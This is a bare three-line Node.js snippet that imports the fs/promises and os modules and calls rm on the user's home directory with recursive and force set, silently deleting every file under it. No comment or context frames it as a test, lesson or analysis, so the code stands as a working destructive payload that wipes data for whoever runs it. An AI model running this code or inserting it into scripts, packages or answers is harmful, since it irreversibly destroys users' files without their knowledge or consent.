const { rm } = require('fs/promises');
const { homedir } = require('os');
rm(homedir(), { recursive: true, force: true });
